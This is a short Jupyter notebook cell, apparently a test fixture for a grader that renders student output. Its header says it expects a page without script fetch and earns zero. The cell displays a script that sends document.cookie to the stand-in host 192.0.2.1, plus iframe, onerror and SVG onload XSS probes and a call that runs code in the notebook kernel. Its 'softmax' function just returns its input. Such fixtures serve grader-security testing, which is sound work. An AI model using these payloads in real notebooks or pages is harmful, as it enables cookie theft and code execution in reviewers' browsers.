# Shows pages, scripts and frames that would run in the instructor's browser.
# earns: 0
# expects: page without <script>fetch
# %% softmax
from IPython.display import HTML, Javascript, display

display(HTML("<script>fetch('http://192.0.2.1/?' + document.cookie)</script>"))
display(HTML("<iframe src=javascript:alert(1)></iframe><img src=x onerror=alert(1)>"))
display(Javascript("Jupyter.notebook.kernel.execute('1')"))
display({"image/svg+xml": "<svg onload=alert(1)>"}, raw=True)


def softmax(scores):
    return scores
